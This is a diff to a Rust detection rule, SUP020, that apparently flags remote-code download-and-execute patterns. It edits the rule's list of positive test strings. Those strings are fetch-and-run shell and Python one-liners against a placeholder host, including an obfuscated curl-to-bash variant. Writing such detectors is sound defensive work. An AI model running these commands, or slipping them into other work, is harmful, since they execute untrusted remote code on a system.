@@ -168,9 +168,9 @@ pub const SUP020: Rule = Rule {
     matcher: Matcher::Analysis,
     fires: &[
         "c=cu; c=${c}rl; $c -s https://t.example/i | ba\"\"sh",
-        "bash <(wget -qO- https://t.example/i)",
+        "f=/tmp/i\ncurl -s https://t.example/i > $f\nsh $f",
         "curl -o /tmp/i.sh https://t.example/i && bash /tmp/i.sh",
-        "eval \"$(curl -fsSL https://t.example/i)\"",
+        "src=$(curl -fsSL https://t.example/i)\neval \"$src\"",
         "wget https://t.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
         "#!/usr/bin/env python3\nimport urllib.request\nexec(urllib.request.urlopen(\"https://t.example/p.py\").read())\n",
     ],
